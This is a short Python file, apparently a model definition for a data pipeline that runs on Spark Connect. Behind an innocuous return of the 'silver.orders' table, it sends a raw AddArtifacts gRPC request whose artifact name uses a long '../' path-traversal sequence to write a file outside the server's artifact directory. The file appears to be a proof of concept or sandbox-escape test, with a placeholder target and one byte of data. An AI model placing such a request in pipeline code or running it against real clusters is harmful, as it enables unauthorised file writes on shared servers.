# seeks: write
# Artifacts are files on the server, whose name leads up.
from pyspark.sql.connect import proto


def model(tg):
    client = tg.ref("silver.orders").sparkSession.client

    def requests():
        request = proto.AddArtifactsRequest(session_id=client._session_id)
        artifact = request.batch.artifacts.add()
        artifact.name = "files/../../../../../../../../../../OUTSIDE_FILE"
        artifact.data.data = b"x"
        yield request

    client._stub.AddArtifacts(requests())
    return tg.ref("silver.orders")
